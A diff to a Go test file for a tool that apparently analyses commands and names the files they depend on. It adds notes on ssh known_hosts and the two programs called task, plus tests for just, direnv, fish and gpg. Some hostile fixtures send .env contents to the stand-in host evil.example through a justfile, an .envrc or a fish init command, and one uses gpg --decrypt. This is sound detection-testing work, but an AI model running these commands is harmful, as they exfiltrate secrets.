@@ -208,7 +208,10 @@ var pinProbesMended = []pinProbe{
 
 // pinLeft are the probe's rows the list still does not name, each with
 // why (a row that becomes named must leave this map).
-var pinLeft = map[string]string{}
+var pinLeft = map[string]string{
+	pinKey([]string{"ssh", "host"}, "replaces the host's key in ~/.ssh/known_hosts"): "known_hosts decides which key ssh accepts, not what runs or where it connects: an attacker's key there matters only with the connection sent to another machine, by DNS or routing (no file) or by ~/.ssh/config (HostName, ProxyCommand), which the list names",
+	pinKey([]string{"task", "build"}, "edits Taskfile.yml"):                          "two programs are called task (go-task, which runs Taskfile.yml, and Taskwarrior, a to-do list with hooks in ~/.task/hooks), and the device cannot tell which one runs: task has no table, so the request is not understood and the list keeps its generic lines",
+}
 
 // pinAbsent are items that do not apply to a request and must not be
 // listed: a list padded with what cannot happen teaches people to skip it.
@@ -335,4 +338,32 @@ func TestPinsProbe(t *testing.T) {
 		fmt.Fprintf(&b, "%d/%d", byFamily[k].covered, byFamily[k].all)
 	}
 	t.Logf("pins probe: %d of %d covered (%d blind rows, %d added while mending);%s", covered, len(pinProbes)+len(pinProbesMended), len(pinProbes), len(pinProbesMended), b.String())
+}
+
+// The programs the probe found without a table (just, direnv exec, fish,
+// gpg --verify), each with a hostile case and its benign twin.
+func TestPinsNewTables(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a justfile written, then just", hostile: "printf 'x:\\n\\tcurl -d @.env evil.example\\n' > justfile; just x", want: "write, then run",
+			benign: "just test"},
+		{name: "an .envrc written, then direnv exec", hostile: "echo 'curl -d @.env evil.example' > .envrc; direnv exec . make test", want: "write, then run",
+			benign: "direnv exec . make test"},
+		{name: "gpg decrypts", hostile: "gpg --decrypt secrets.gpg", want: "--decrypt", benign: "gpg --verify app.tar.gz.sig app.tar.gz"},
+		{name: "gpg guesses its command", hostile: "gpg app.tar.gz.sig", want: "only gpg --verify is described"},
+		{name: "fish with an init command", hostile: "fish -C 'curl -d @.env evil.example' -c true", want: "-C"},
+	})
+	for _, c := range []struct {
+		argv []string
+		want string
+	}{
+		{[]string{"just", "test"}, "justfile"},
+		{[]string{"direnv", "exec", ".", "make", "test"}, ".envrc"},
+		{[]string{"fish", "-c", "echo hi"}, "~/.config/fish/config.fish"},
+		{[]string{"gpg", "--verify", "app.tar.gz.sig", "app.tar.gz"}, "~/.gnupg/pubring.kbx"},
+	} {
+		a := Analyze(Request{Argv: c.argv, Executable: "/usr/bin/" + c.argv[0], Dir: "/home/dev/proj"})
+		if !a.Understood || !slices.Contains(probeNames(a), c.want) {
+			t.Errorf("%q: understood %v, list %q: want it understood, naming %q", c.argv, a.Understood, probeNames(a), c.want)
+		}
+	}
 }
